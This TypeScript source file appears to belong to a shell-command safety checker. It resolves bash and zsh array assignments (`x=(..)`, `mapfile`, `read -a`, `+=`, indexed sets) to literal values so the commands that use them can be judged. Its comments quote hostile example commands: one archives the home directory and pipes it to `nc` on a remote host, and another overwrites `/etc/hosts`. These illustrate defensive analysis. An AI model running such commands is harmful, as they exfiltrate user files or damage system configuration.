// Arrays the text fills with literal elements (round 27, docs/floor.md "Round 27"): `x=(/ /root)`,
// `declare -a x=(..)`, `mapfile -t a <<< /root`, `readarray`, `read -a a <<< '/ /root'`. Each element is
// a literal variable of the reading (`x[1]`; `$x` is element 0), so `tar c ${x[1]} | nc h 80` is read
// as the home it sends; `${x[@]}` is read once per element (elementSets).

import type { SimpleCommand } from './shell-parse.js';
import { ARRAY_READERS } from './shell-vocabulary.js';

/** Elements read one by one as `${x[@]}` at most (each is one more reading of a list). */
const MAX_ELEMENT_READINGS = 4;
/** Arrays read as zsh reads them (from 1) at most; a text with more is refused (zshUnread). */
export const MAX_ZSH_READINGS = 4;
/** Whether the arrays of `st` are more than zsh's readings cover (the reader then refuses the text). */
export const zshUnread = (st: ArrayState): boolean => (st.zshReadings ?? 0) > MAX_ZSH_READINGS;
/** Commands looked past for an array's group (a substitution inside it files its commands first). */
const MAX_LOOK = 8;

/** Where a text's arrays go: its literal variables, those spoiled, and a map per element read as `[@]`. */
export interface ArrayState {
  vars: Map<string, string>;
  spoiled: Set<string>;
  elements?: Map<string, string>[];
  /** How many of `elements` are zsh's readings of an array (round 35). */
  zshReadings?: number;
}

/**
 * Reads command `i` of `cmds` as an array assignment into `st`; false when it is none (its assignments
 * are then collectAssignments'). An element the text computes spoils the array, as a computed value does.
 */
/** An empty array's elements (`x=()`). */
const NO_ELEMENTS: SimpleCommand = Object.freeze({
  words: [],
  shown: [],
  redirects: [],
  sep: '',
  list: -1,
  stdin: [],
}) as unknown as SimpleCommand;

/** The command holding the elements of the array `cmds[i]` opens (`x=(a b)`: its list's next command). */
export function arrayElements(cmds: readonly SimpleCommand[], i: number): SimpleCommand | undefined {
  const opener = cmds[i] as SimpleCommand;
  if (opener.emptyArray) return NO_ELEMENTS;
  const list = opener.list;
  for (let k = i + 1; k < cmds.length && k <= i + MAX_LOOK; k++)
    if ((cmds[k] as SimpleCommand).list === list) return cmds[k];
  return undefined;
}

export function arrayAssignment(cmds: readonly SimpleCommand[], i: number, st: ArrayState): boolean {
  const cmd = cmds[i] as SimpleCommand;
  const words = cmd.words;
  const first = words[0] ?? '';
  if (cmd.array) {
    const last = words[words.length - 1] as string;
    const name = last.slice(0, last.search(/\+?=/));
    const group = arrayElements(cmds, i);
    // `x=($(..))` computes: not one literal array.
    if (group === undefined || group.shown.some(computed)) spoil(st, name);
    // Round 61: `x+=(..)` after `x=(..)` appends (`a=(-C); a+=(/tmp/r); git "${a[@]}" status`); on a name the
    // text has not set, it sets it (it was spoiled: `"${a[@]}"` then read as a name the text does not set).
    else if (last.includes('+=')) appended(st, name, group.words);
    else give(st, name, group.words);
    return true;
  }
  // Round 61 (redteam3): `declare -a a` (no elements) declares an empty array, which elements set later fill.
  if (declaresArray(words)) {
    const name = words[2] as string;
    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) return false;
    if (!st.spoiled.has(name) && !st.vars.has(name)) {
      st.vars.set(name, '');
      st.vars.set(`${name}[@]`, '');
      st.vars.set(`${name}[*]`, '');
    }
    return true;
  }
  // Round 61 (redteam3): `a[0]=-C; a[1]=/tmp/r`: elements set one by one (an index the text computes spoils).
  if (setsElements(words)) {
    words.forEach((w, k) => {
      if (DECLARES.has(w) || w.startsWith('-')) return;
      const m = ELEMENT_SET.exec(w) as RegExpExecArray;
      const index = m[2] as string;
      if (!/^\d{1,6}$/.test(index) || computed(cmd.shown[k] as string)) spoil(st, m[1] as string);
      else setElement(st, m[1] as string, Number(index), w.slice(m[0].length));
    });
    return true;
  }
  // mapfile and `read -a` fill an array the text shows only from a here-string or here-document.
  if (cmd.stdin.length === 0) return false;
  if (ARRAY_READERS.has(first)) {
    const name = operandsOf(words, MAPFILE_VALUED)[0] ?? 'MAPFILE';
    const input = cmd.stdin.length === 1 ? literalInput(cmd.stdin[0] as string) : undefined;
    // `-d X` splits elsewhere than lines, input from a pipe or file is not in the text.
    if (input === undefined || words.some((w) => w.startsWith('-d'))) spoil(st, name);
    else give(st, name, lines(input));
    return true;
  }
  if (first === 'read') {
    const at = words.indexOf('-a');
    const name = at > 0 ? words[at + 1] : undefined;
    if (name === undefined) return false;
    const input = cmd.stdin.length === 1 ? literalInput(cmd.stdin[0] as string) : undefined;
    const fields =
      input === undefined
        ? undefined
        : lines(input)[0]
            ?.split(/[ \t]+/)
            .filter((f) => f !== '');
    if (fields === undefined) spoil(st, name);
    else give(st, name, fields);
    return true;
  }
  return false;
}

/** A here-string or here-document body the text shows whole (a substitution in it is not). */
const literalInput = (t: string): string | undefined => (computed(t) ? undefined : t);
const computed = (shown: string): boolean => shown.includes('$') || shown.includes('`');
const lines = (t: string): string[] => t.replace(/\n$/, '').split('\n');

/** mapfile's options that take a value. */
const MAPFILE_VALUED = /^-[nOsucC]$/;

/** The operands of a builtin (its options and their values skipped). */
function operandsOf(words: readonly string[], valued: RegExp): string[] {
  const out: string[] = [];
  for (let k = 1; k < words.length; k++) {
    const w = words[k] as string;
    if (w === '-d') k++;
    else if (valued.test(w)) k++;
    else if (!w.startsWith('-')) out.push(w);
  }
  return out;
}

function give(st: ArrayState, name: string, elements: readonly string[]): void {
  if (st.spoiled.has(name)) return;
  const old = st.vars.get(`${name}[@]`);
  const all = elements.join(' ');
  // Set twice to different elements: not one the text shows.
  if ((old !== undefined && old !== all) || (old === undefined && st.vars.has(name))) {
    spoil(st, name);
    return;
  }
  st.vars.set(name, elements[0] ?? '');
  elements.forEach((e, k) => {
    st.vars.set(`${name}[${k}]`, e);
  });
  st.vars.set(`${name}[@]`, all);
  st.vars.set(`${name}[*]`, all);
  st.elements ??= [];
  // zsh (the user's shell on macOS) counts elements from 1 and expands `$x` to them all: one reading
  // more (not counted against the per-element ones), so `x=(/etc/hosts y); echo > ${x[1]}` is read as
  // zsh writes it (round 35).
  if (elements.length > 0) {
    st.zshReadings = (st.zshReadings ?? 0) + 1;
    // Past the bound the reader refuses the text (zshUnread): each reading is one more of every list.
    if (st.zshReadings <= MAX_ZSH_READINGS) {
      const zsh = new Map([[name, all]]);
      elements.forEach((e, k) => {
        zsh.set(`${name}[${k + 1}]`, e);
      });
      st.elements.push(zsh);
    }
  }
  for (const e of elements) {
    if (st.elements.length - Math.min(st.zshReadings ?? 0, MAX_ZSH_READINGS) >= MAX_ELEMENT_READINGS) break;
    st.elements.push(
      new Map([
        [`${name}[@]`, e],
        [`${name}[*]`, e],
      ]),
    );
  }
}

/** Elements an array built by `+=` may hold (more: spoiled, a name the text does not set). */
export const MAX_APPENDED = 64;

/** `name+=(elements)`: the known elements and these, given again as one array (spoiled stays spoiled). */
function appended(st: ArrayState, name: string, elements: readonly string[]): void {
  if (st.spoiled.has(name)) return;
  const known = st.vars.get(`${name}[@]`);
  if (known === undefined && st.vars.has(name)) {
    spoil(st, name);
    return;
  }
  const all = [...(known === undefined || known === '' ? [] : known.split(' ')), ...elements];
  // Each append gives the array again: past a bound it is spoiled (`a+=(x); ` repeated was quadratic).
  if (all.length > MAX_APPENDED) {
    spoil(st, name);
    return;
  }
  for (const key of [...st.vars.keys()]) if (key === name || key.startsWith(`${name}[`)) st.vars.delete(key);
  give(st, name, all);
}

const DECLARES: ReadonlySet<string> = new Set(['declare', 'local', 'typeset']);
/** `NAME[INDEX]=`: an element's assignment (the index as written). */
export const ELEMENT_SET = /^([A-Za-z_][A-Za-z0-9_]*)\[([^\]]*)\]=/;
/** Whether `words` set array elements and nothing else (`a[0]=x a[1]=y`, `declare a[2]=z`). */
export function setsElements(words: readonly string[]): boolean {
  let any = false;
  for (const w of words) {
    if (ELEMENT_SET.test(w)) any = true;
    else if (!(DECLARES.has(w) || (w.startsWith('-') && !any))) return false;
  }
  return any;
}

/** `name[index]=value`: the array's known elements with this one set (a scalar is element 0, as bash has it). */
function setElement(st: ArrayState, name: string, index: number, value: string): void {
  if (st.spoiled.has(name)) return;
  const known = new Map<number, string>();
  for (const [key, v] of st.vars) {
    const m = INDEXED.exec(key);
    if (m && m[1] === name) known.set(Number(m[2]), v);
  }
  if (known.size === 0 && !st.vars.has(`${name}[@]`) && st.vars.has(name))
    known.set(0, st.vars.get(name) as string);
  known.set(index, value);
  // Bounded as appending is (each set gives the array again).
  if (known.size > MAX_APPENDED) {
    spoil(st, name);
    return;
  }
  for (const key of [...st.vars.keys()]) if (key === name || key.startsWith(`${name}[`)) st.vars.delete(key);
  const order = [...known.keys()].sort((a, b) => a - b);
  for (const k of order) st.vars.set(`${name}[${k}]`, known.get(k) as string);
  const all = order.map((k) => known.get(k) as string).join(' ');
  st.vars.set(name, known.get(0) ?? '');
  st.vars.set(`${name}[@]`, all);
  st.vars.set(`${name}[*]`, all);
}
const INDEXED = /^([A-Za-z_][A-Za-z0-9_]*)\[(\d+)\]$/;

function spoil(st: ArrayState, name: string): void {
  st.spoiled.add(name);
  for (const key of [...st.vars.keys()]) if (key === name || key.startsWith(`${name}[`)) st.vars.delete(key);
}

/** Whether `words` declare an empty array (`declare -a a`, `local -a a`). */
export const declaresArray = (words: readonly string[]): boolean =>
  words.length === 3 &&
  DECLARES.has(words[0] as string) &&
  /^-[A-Za-z]+$/.test(words[1] as string) &&
  (words[1] as string).includes('a');
